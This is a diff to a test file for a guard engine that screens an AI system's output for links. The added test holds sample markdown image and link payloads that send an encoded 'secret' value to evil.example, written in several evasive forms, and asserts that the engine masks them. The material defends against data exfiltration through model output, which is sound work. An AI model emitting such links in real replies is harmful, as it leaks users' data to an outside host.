@@ -201,6 +201,15 @@ describe('guard engine', () => {
       assert.equal(d.text, 'Done  see policy and [docs](https://learn.microsoft.com/a).');
     });
 
+    it('removes scheme-relative, backslash and reference-style links and URL link text (issue 10, finding 5)', async () => {
+      const text =
+        'Report ![x](//evil.example/a.png?q=c2VjcmV0) and ![y](/\\evil.example/b.png) see [the doc][1] or ' +
+        '[https://evil.example/?q=c2VjcmV0](https://evil.example/?q=c2VjcmV0) or www.evil.example.\n\n[1]: //evil.example/?q=c2VjcmV0';
+      const d = await (await engineWith()).checkOutput(text, out);
+      assert.equal(d.action, 'mask');
+      assert.doesNotMatch(d.text, /evil\.example/);
+    });
+
     it('honours hosts allowed through settings', async () => {
       const engine = await createGuardEngine({ ...settings, allowedLinkHosts: ['evil.example'] }, { policy: shipped });
       assert.equal((await engine.checkOutput('see [policy](https://evil.example/p)', out)).action, 'allow');
